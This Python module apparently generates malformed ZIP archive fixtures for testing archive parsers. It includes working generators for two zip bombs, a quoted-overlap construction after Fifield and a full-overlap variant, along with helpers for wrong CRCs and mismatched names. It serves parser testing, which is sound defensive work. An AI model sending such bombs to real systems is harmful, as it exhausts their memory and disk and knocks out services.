"""Hand-written ZIP, gzip and tar helpers for the container fixtures (stdlib only).

Python's zipfile refuses to write most of the broken archives the fixtures need (wrong
CRC, local name != central name, duplicate names, arbitrary flag bits, overlapping
entries), so ZIP files are assembled here byte by byte. Every timestamp is fixed (DOS
1980-01-01 00:00) so that output is byte-identical on every run.
"""

import struct
import zlib

DOS_TIME = 0x0000  # 00:00:00
DOS_DATE = 0x0021  # 1980-01-01

LFH_SIG = b"PK\x03\x04"
CDH_SIG = b"PK\x01\x02"
EOCD_SIG = b"PK\x05\x06"
DD_SIG = b"PK\x07\x08"

STORED = 0
DEFLATED = 8


def deflate_raw(data, level=9):
    co = zlib.compressobj(level, zlib.DEFLATED, -15)
    return co.compress(data) + co.flush()


class Entry:
    """One archive member.

    name       central-directory name (what zipfile/miniz/Go look up)
    data       the uncompressed bytes
    method     STORED or DEFLATED
    lname      local-header name (default: name)
    flags      general-purpose flags in both headers (default 0)
    lflags     override for the local header only
    crc        CRC written in both headers (default: the real CRC-32 of data)
    descriptor write bit 3 + zero CRC/sizes in the local header and a data descriptor
               (PK\\x07\\x08 crc csize usize) after the data
    external   external attributes (default: regular file 0644)
    """

    def __init__(self, name, data, method=STORED, lname=None, flags=0, lflags=None,
                 crc=None, descriptor=False, external=(0o100644 << 16)):
        self.name = name.encode() if isinstance(name, str) else name
        self.lname = self.name if lname is None else (lname.encode() if isinstance(lname, str) else lname)
        self.data = data
        self.method = method
        self.flags = flags | (0x08 if descriptor else 0)
        self.lflags = self.flags if lflags is None else lflags | (0x08 if descriptor else 0)
        self.crc = zlib.crc32(data) if crc is None else crc
        self.descriptor = descriptor
        self.external = external
        self.payload = deflate_raw(data) if method == DEFLATED else data


def local_header(flags, method, crc, csize, usize, name, extra=b""):
    return LFH_SIG + struct.pack("<HHHHHIIIHH", 20, flags, method, DOS_TIME, DOS_DATE,
                                 crc, csize, usize, len(name), len(extra)) + name + extra


def central_header(flags, method, crc, csize, usize, name, offset, external=(0o100644 << 16)):
    # version made by 0x031e: Unix, spec 3.0 (what Info-ZIP writes)
    return CDH_SIG + struct.pack("<HHHHHHIIIHHHHHII", 0x031E, 20, flags, method, DOS_TIME,
                                 DOS_DATE, crc, csize, usize, len(name), 0, 0, 0, 0,
                                 external, offset) + name


def eocd(count, cd_size, cd_offset, comment=b""):
    return EOCD_SIG + struct.pack("<HHHHIIH", 0, 0, count, count, cd_size, cd_offset,
                                  len(comment)) + comment


def build_zip(entries, comment=b"", prefix=b""):
    """Assemble a ZIP archive from Entry objects, in order (duplicates allowed).

    prefix: bytes placed before the first local header, with every offset counted from
    the start of the file (a self-consistent polyglot, like a self-extracting archive)."""
    out = bytearray(prefix)
    central = bytearray()
    for e in entries:
        off = len(out)
        csize, usize = len(e.payload), len(e.data)
        if e.descriptor:
            out += local_header(e.lflags, e.method, 0, 0, 0, e.lname)
            out += e.payload
            out += DD_SIG + struct.pack("<III", e.crc, csize, usize)
        else:
            out += local_header(e.lflags, e.method, e.crc, csize, usize, e.lname)
            out += e.payload
        central += central_header(e.flags, e.method, e.crc, csize, usize, e.name, off, e.external)
    cd_off = len(out)
    out += central
    out += eocd(len(entries), len(central), cd_off, comment)
    return bytes(out)


def zip_members(entries_by_name, method=STORED):
    """build_zip for a list of (name, data) pairs, all with the same method."""
    return build_zip([Entry(n, d, method) for n, d in entries_by_name])


def read_zip_central(data):
    """Parse the central directory of a well-formed archive (no zip64 EOCD).

    Returns a list of dicts with name, method, flags, crc, csize, usize, offset,
    cd_pos (position of the central header) and extra.
    """
    end = data.rfind(EOCD_SIG)
    if end < 0:
        raise ValueError("no end of central directory record")
    _, _, _, count, cd_size, cd_off, _ = struct.unpack("<HHHHIIH", data[end + 4:end + 22])
    out = []
    p = cd_off
    for _ in range(count):
        if data[p:p + 4] != CDH_SIG:
            raise ValueError("bad central header at %d" % p)
        (_, _, flags, method, _, _, crc, csize, usize, nlen, xlen, clen, _, _, _,
         offset) = struct.unpack("<HHHHHHIIIHHHHHII", data[p + 4:p + 46])
        name = data[p + 46:p + 46 + nlen]
        extra = data[p + 46 + nlen:p + 46 + nlen + xlen]
        # zip64 extended information (0x0001): only the fields set to 0xffffffff are there
        q = 0
        while q + 4 <= len(extra):
            hid, hlen = struct.unpack("<HH", extra[q:q + 4])
            if hid == 0x0001:
                vals = extra[q + 4:q + 4 + hlen]
                k = 0
                if usize == 0xFFFFFFFF:
                    usize = struct.unpack("<Q", vals[k:k + 8])[0]; k += 8
                if csize == 0xFFFFFFFF:
                    csize = struct.unpack("<Q", vals[k:k + 8])[0]; k += 8
                if offset == 0xFFFFFFFF:
                    offset = struct.unpack("<Q", vals[k:k + 8])[0]; k += 8
            q += 4 + hlen
        out.append(dict(name=name.decode("utf-8", "replace"), method=method, flags=flags,
                        crc=crc, csize=csize, usize=usize, offset=offset, cd_pos=p,
                        extra=extra))
        p += 46 + nlen + xlen + clen
    return out


def fix_zip_times(data):
    """Set every local and central header's DOS time/date to 1980-01-01 00:00.

    Used on archives written by real libraries (numpy.savez uses the wall clock).
    Nothing else changes: CRCs do not cover the headers.
    """
    buf = bytearray(data)
    for e in read_zip_central(data):
        struct.pack_into("<HH", buf, e["cd_pos"] + 12, DOS_TIME, DOS_DATE)
        lo = e["offset"]
        assert buf[lo:lo + 4] == LFH_SIG
        struct.pack_into("<HH", buf, lo + 10, DOS_TIME, DOS_DATE)
    return bytes(buf)


def rebuild_zip(data, replace=None, method_of=None, drop=()):
    """Re-assemble a well-formed archive member by member (names, order and methods kept),
    with `replace` {name: new bytes}. Central-directory data is read with zlib, not zipfile,
    so this also works on members we are about to make hostile."""
    replace = replace or {}
    entries = []
    for e in read_zip_central(data):
        if e["name"] in drop:
            continue
        lo = e["offset"]
        nlen, xlen = struct.unpack("<HH", data[lo + 26:lo + 30])
        raw = data[lo + 30 + nlen + xlen:lo + 30 + nlen + xlen + e["csize"]]
        if e["method"] == STORED:
            body = raw
        elif e["method"] == DEFLATED:
            body = zlib.decompress(raw, -15)
        else:
            raise ValueError("method %d" % e["method"])
        body = replace.get(e["name"], body)
        m = e["method"] if method_of is None else method_of(e["name"], e["method"])
        entries.append(Entry(e["name"], body, m))
    return entries


# ---------------------------------------------------------------------------
# CRC-32 combination (zlib's crc32_combine, which Python does not expose)
# ---------------------------------------------------------------------------

def _gf2_times(mat, vec):
    s = 0
    i = 0
    while vec:
        if vec & 1:
            s ^= mat[i]
        vec >>= 1
        i += 1
    return s


def _gf2_square(mat):
    return [_gf2_times(mat, mat[n]) for n in range(32)]


def crc32_combine(crc1, crc2, len2):
    """CRC-32 of A+B from crc32(A), crc32(B) and len(B)."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << (n - 1) for n in range(1, 32)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def crc32_zeros(n, chunk=1 << 24):
    c = 0
    z = bytes(min(n, chunk))
    while n > 0:
        k = min(n, chunk)
        c = zlib.crc32(z[:k], c)
        n -= k
    return c


def deflate_zeros(n, level=9, chunk=1 << 24):
    """A final-block raw DEFLATE stream of n zero bytes."""
    co = zlib.compressobj(level, zlib.DEFLATED, -15)
    out = []
    z = bytes(min(n, chunk))
    left = n
    while left > 0:
        k = min(left, chunk)
        out.append(co.compress(z[:k]))
        left -= k
    out.append(co.flush())
    return b"".join(out)


# ---------------------------------------------------------------------------
# Zip bombs
# ---------------------------------------------------------------------------

def zip_bomb_quoted_overlap(n_files, kernel_c, kernel_u, kernel_crc, name_fmt="%04d.bin"):
    """David Fifield's "better zip bomb" (WOOT 2019), quoted-overlap construction.

    Every file's data is a non-final stored DEFLATE block that quotes the next file's
    local header, followed by the next file's data; the last file is the kernel (a
    final-block DEFLATE stream of zeros). All files share the kernel, so n_files files
    each expand to about kernel_u bytes from one copy of kernel_c. Local and central
    names agree and no entry starts inside another's header, so per-entry checks pass;
    only overlap detection or a total-expansion cap stops it.
    """
    names = [(name_fmt % k).encode() for k in range(n_files)]
    # Build from the last file to the first: each header needs the next one's bytes.
    lfh = [None] * n_files
    csize = [0] * n_files
    usize = [0] * n_files
    crc = [0] * n_files
    csize[-1], usize[-1], crc[-1] = len(kernel_c), kernel_u, kernel_crc
    lfh[-1] = local_header(0, DEFLATED, crc[-1], csize[-1], usize[-1], names[-1])
    for k in range(n_files - 2, -1, -1):
        nxt = lfh[k + 1]
        assert len(nxt) < 0x10000
        csize[k] = 5 + len(nxt) + csize[k + 1]
        usize[k] = len(nxt) + usize[k + 1]
        crc[k] = crc32_combine(zlib.crc32(nxt), crc[k + 1], usize[k + 1])
        lfh[k] = local_header(0, DEFLATED, crc[k], csize[k], usize[k], names[k])
    out = bytearray()
    offsets = []
    for k in range(n_files):
        offsets.append(len(out))
        out += lfh[k]
        if k + 1 < n_files:
            n = len(lfh[k + 1])
            out += struct.pack("<BHH", 0x00, n, n ^ 0xFFFF)  # BFINAL=0, BTYPE=00 (stored)
    out += kernel_c
    cd_off = len(out)
    cd = bytearray()
    for k in range(n_files):
        cd += central_header(0, DEFLATED, crc[k], csize[k], usize[k], names[k], offsets[k])
    out += cd
    out += eocd(n_files, len(cd), cd_off)
    return bytes(out), sum(usize)


def zip_bomb_full_overlap(n_entries, kernel_c, kernel_u, kernel_crc, name_fmt="%04d.bin"):
    """n_entries central-directory entries that all point at one local header + kernel.
    Only the first central name matches the local name."""
    names = [(name_fmt % k).encode() for k in range(n_entries)]
    out = bytearray(local_header(0, DEFLATED, kernel_crc, len(kernel_c), kernel_u, names[0]))
    out += kernel_c
    cd_off = len(out)
    cd = bytearray()
    for k in range(n_entries):
        cd += central_header(0, DEFLATED, kernel_crc, len(kernel_c), kernel_u, names[k], 0)
    out += cd
    out += eocd(n_entries, len(cd), cd_off)
    return bytes(out), n_entries * kernel_u


def selftest():
    """Build both bombs small (6 x 1 MiB) and inflate every entry with zlib: sizes and CRCs
    must match the headers. Run by gen_containers.py before the real bombs."""
    import os
    a, b = os.urandom(1000), os.urandom(77777)
    assert crc32_combine(zlib.crc32(a), zlib.crc32(b), len(b)) == zlib.crc32(a + b)
    n = 1 << 20
    kc, kcrc = deflate_zeros(n), crc32_zeros(n)
    assert kcrc == zlib.crc32(bytes(n))
    for builder in (zip_bomb_quoted_overlap, zip_bomb_full_overlap):
        data, total = builder(6, kc, n, kcrc)
        seen = 0
        for e in read_zip_central(data):
            lo = e["offset"]
            nlen, xlen = struct.unpack("<HH", data[lo + 26:lo + 30])
            d = zlib.decompressobj(-15)
            out = d.decompress(data[lo + 30 + nlen + xlen:lo + 30 + nlen + xlen + e["csize"]])
            assert d.eof and not d.unused_data
            assert len(out) == e["usize"] and zlib.crc32(out) == e["crc"], e["name"]
            seen += len(out)
        assert seen == total
